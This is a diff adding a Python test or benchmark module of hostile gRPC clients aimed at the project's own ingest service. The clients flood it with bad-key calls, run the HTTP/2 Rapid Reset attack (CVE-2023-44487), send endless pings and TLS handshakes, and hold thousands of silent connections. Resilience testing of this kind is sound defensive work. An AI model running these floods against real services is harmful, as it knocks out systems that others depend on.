@@ -1,0 +1,123 @@
+"""Clients of gRPC without a key that do their worst, in frames that no library sends."""
+
+from __future__ import annotations
+
+import socket
+import ssl
+import struct
+import threading
+import time
+from contextlib import ExitStack, suppress
+
+from benches.neighbours.attack import CONNECTIONS, Attack
+from tests.grpc.hostile import END_STREAM_AND_HEADERS, PREFACE, SETTINGS, call_of, frame
+from tests.grpc.station import INGEST
+
+WRITE = f"/{INGEST}/Write".encode()
+HEADERS_ONLY, RST_STREAM, PING = 4, 3, 6
+CANCEL = struct.pack(">I", 8)
+BAD_KEY = b"ftk_sandbox_" + b"a" * 16 + b"_" + b"b" * 52
+CALLS_A_SECOND = 2_000
+SILENT = 5_000
+BURST = 20
+
+
+class Frames(Attack):
+    """Bursts of frames over some connections, each opened anew when the service closes it."""
+
+    burst_seconds = 0.0
+
+    def burst(self, turn: int) -> bytes:
+        raise NotImplementedError
+
+    def run(self, until: float) -> None:
+        threads = [threading.Thread(target=self._send, args=(until,)) for _ in range(CONNECTIONS)]
+        for thread in threads:
+            thread.start()
+        for thread in threads:
+            thread.join()
+
+    def _send(self, until: float) -> None:
+        while time.monotonic() < until:
+            with suppress(OSError), self._connected() as connection:
+                self.count["connections"] += 1
+                self._bursts(connection, until)
+
+    def _bursts(self, connection: ssl.SSLSocket, until: float) -> None:
+        drain = threading.Thread(target=_drain, args=(connection,), daemon=True)
+        drain.start()
+        turn = 0
+        while (now := time.monotonic()) < until and drain.is_alive():
+            connection.sendall(self.burst(turn))
+            self.count["bursts"] += 1
+            turn += 1
+            time.sleep(max(now + self.burst_seconds - time.monotonic(), 0.0))
+
+    def _connected(self) -> ssl.SSLSocket:
+        context = ssl.create_default_context(cafile=self.target.grpc_ca)
+        context.set_alpn_protocols(["h2"])
+        host, _, port = self.target.grpc.rpartition(":")
+        plain = socket.create_connection((host, int(port)), timeout=10)
+        connection = context.wrap_socket(plain, server_hostname=host)
+        connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
+        return connection
+
+
+class RefusedCalls(Frames):
+    """Two thousand calls a second whose key is no good."""
+
+    burst_seconds = BURST * CONNECTIONS / CALLS_A_SECOND
+
+    def burst(self, turn: int) -> bytes:
+        first = turn * BURST
+        return b"".join(
+            call_of(WRITE, 2 * number + 1, x_api_key=BAD_KEY)
+            for number in range(first, first + BURST)
+        )
+
+
+class ResetCalls(Frames):
+    """Calls that are reset as soon as they have begun, as many as go (CVE-2023-44487)."""
+
+    def burst(self, turn: int) -> bytes:
+        frames = []
+        for number in range(turn * BURST, (turn + 1) * BURST):
+            stream = 2 * number + 1
+            call = bytearray(call_of(WRITE, stream, x_api_key=BAD_KEY))
+            call[4] = call[4] & ~(END_STREAM_AND_HEADERS & 1)  # no end of the stream
+            frames += [bytes(call), frame(RST_STREAM, 0, stream, CANCEL)]
+        return b"".join(frames)
+
+
+class Pings(Frames):
+    """Pings without end."""
+
+    def burst(self, turn: int) -> bytes:
+        return frame(PING, 0, 0, turn.to_bytes(8)) * 100
+
+
+class Handshakes(Frames):
+    """Handshakes of TLS without end."""
+
+    def _bursts(self, connection: ssl.SSLSocket, until: float) -> None:
+        """Nothing follows a handshake."""
+
+
+class SilentConnections(Attack):
+    """Thousands of connections that say nothing."""
+
+    def run(self, until: float) -> None:
+        host, _, port = self.target.grpc.rpartition(":")
+        with ExitStack() as stack:
+            for _ in range(SILENT):
+                with suppress(OSError):
+                    connection = socket.create_connection((host, int(port)), timeout=1)
+                    stack.enter_context(connection)
+                    self.count["held"] += 1
+            time.sleep(max(until - time.monotonic(), 0.0))
+
+
+def _drain(connection: ssl.SSLSocket) -> None:
+    with suppress(OSError):
+        while connection.recv(65_536):
+            pass
